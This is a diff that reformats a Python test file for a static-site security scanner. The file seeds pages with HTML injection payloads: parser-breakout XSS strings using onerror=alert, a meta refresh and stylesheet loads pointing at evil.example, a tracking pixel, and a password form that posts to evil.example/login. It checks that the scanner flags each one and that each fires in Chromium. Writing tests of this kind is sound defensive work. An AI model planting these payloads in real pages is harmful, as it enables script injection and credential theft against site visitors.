@@ -57,31 +57,59 @@ class Payload:
 
 
 def _breakout(tag: str) -> Payload:
-    return Payload(f'<{tag}><p title="</{tag}><img src=x onerror=alert(\'{tag}\')>"></p></{tag}>', HANDLER, dialog=tag)
+    return Payload(
+        f"<{tag}><p title=\"</{tag}><img src=x onerror=alert('{tag}')>\"></p></{tag}>",
+        HANDLER,
+        dialog=tag,
+    )
 
 
 PAYLOADS = {
     # B2 rows 1-9
     "cdata": Payload("<![CDATA[ ><img src=x onerror=alert('cdata')> ]]>", HANDLER, dialog="cdata"),
     "comment": Payload("<!--><img src=x onerror=alert('comment')> -->", HANDLER, dialog="comment"),
-    "math-style": Payload("<math><style><img src=x onerror=alert('math-style')></style></math>", HANDLER,
-                          dialog="math-style"),
-    **{tag: _breakout(tag) for tag in ("noscript", "xmp", "noembed", "noframes", "textarea", "title")},
+    "math-style": Payload(
+        "<math><style><img src=x onerror=alert('math-style')></style></math>",
+        HANDLER,
+        dialog="math-style",
+    ),
+    **{
+        tag: _breakout(tag)
+        for tag in ("noscript", "xmp", "noembed", "noframes", "textarea", "title")
+    },
     # B2's related gaps and B7
-    "meta-refresh": Payload('<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">',
-                            '<meta http-equiv="refresh">', request="https://evil.example/refresh"),
-    "stylesheet": Payload('<link rel="stylesheet" href="https://evil.example/sheet.css">',
-                          'off-site URL in href="https://evil.example/sheet.css"', request="https://evil.example/sheet.css"),
-    "css-import": Payload("<style>@import url(https://evil.example/import.css);</style>",
-                          'off-site URL "https://evil.example/import.css" in <style>',
-                          request="https://evil.example/import.css"),
-    "pixel": Payload('<img src="https://tracker.example/pixel.gif" alt="">',
-                     'off-site URL in src="https://tracker.example/pixel.gif"', request="https://tracker.example/pixel.gif"),
-    "form": Payload('<form action="https://evil.example/login"><input type="password" name="pw" value="secret">'
-                    '<button id="sign-in">Sign in</button></form>',
-                    "<form> element inside the page content", request="https://evil.example/login", click="#sign-in"),
-    "mermaid": Payload('<pre class="mermaid">graph TD; A-->B</pre>', 'class="mermaid" on <pre>',
-                       request="https://unpkg.com/mermaid"),
+    "meta-refresh": Payload(
+        '<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">',
+        '<meta http-equiv="refresh">',
+        request="https://evil.example/refresh",
+    ),
+    "stylesheet": Payload(
+        '<link rel="stylesheet" href="https://evil.example/sheet.css">',
+        'off-site URL in href="https://evil.example/sheet.css"',
+        request="https://evil.example/sheet.css",
+    ),
+    "css-import": Payload(
+        "<style>@import url(https://evil.example/import.css);</style>",
+        'off-site URL "https://evil.example/import.css" in <style>',
+        request="https://evil.example/import.css",
+    ),
+    "pixel": Payload(
+        '<img src="https://tracker.example/pixel.gif" alt="">',
+        'off-site URL in src="https://tracker.example/pixel.gif"',
+        request="https://tracker.example/pixel.gif",
+    ),
+    "form": Payload(
+        '<form action="https://evil.example/login"><input type="password" name="pw" value="secret">'
+        '<button id="sign-in">Sign in</button></form>',
+        "<form> element inside the page content",
+        request="https://evil.example/login",
+        click="#sign-in",
+    ),
+    "mermaid": Payload(
+        '<pre class="mermaid">graph TD; A-->B</pre>',
+        'class="mermaid" on <pre>',
+        request="https://unpkg.com/mermaid",
+    ),
 }
 
 
@@ -93,7 +121,9 @@ def payload_project(dest: Path) -> Path:
     """The seed project with a page per payload."""
     root = site_project(dest, ROOT)
     for name, payload in PAYLOADS.items():
-        (root / "content" / "pages" / f"{name}.md").write_text(page_text(name, payload), encoding="utf-8")
+        (root / "content" / "pages" / f"{name}.md").write_text(
+            page_text(name, payload), encoding="utf-8"
+        )
     return root
 
 
@@ -132,8 +162,11 @@ def refused(tmp_path_factory) -> dict[str, list[str]]:
 def findings(hostile) -> dict[str, list[str]]:
     """The scan's findings on the site built without it, by page."""
     config = read_site_config(hostile)
-    theme = ThemeMarkup.from_templates([hostile / "site_templates" / "overrides", _material_templates()],
-                                       ["assets/javascripts/table-labels.js"], config.site_url)
+    theme = ThemeMarkup.from_templates(
+        [hostile / "site_templates" / "overrides", _material_templates()],
+        ["assets/javascripts/table-labels.js"],
+        config.site_url,
+    )
     by_page: dict[str, list[str]] = {}
     for f in scan_site(hostile / "site", theme):
         by_page.setdefault(f.path, []).append(f.what)
@@ -167,6 +200,7 @@ def test_the_scan_finds_nothing_on_the_other_pages(findings):
 
 
 # --- Chromium: each payload at work -------------------------------------------------------------
+
 
 @pytest.fixture(scope="module")
 def browser():
@@ -246,7 +280,9 @@ def _shown(seen: Seen, payload: Payload) -> bool:
 def test_the_payload_works_in_chromium(browser, served, name):
     payload = PAYLOADS[name]
     seen = visit(browser, f"{served}pages/{name}/", payload)
-    assert _shown(seen, payload), f"{name}: dialogs {seen.dialogs}, off-site requests {seen.requests}"
+    assert _shown(seen, payload), (
+        f"{name}: dialogs {seen.dialogs}, off-site requests {seen.requests}"
+    )
 
 
 def test_the_about_page_shows_nothing_of_the_kind(browser, served):
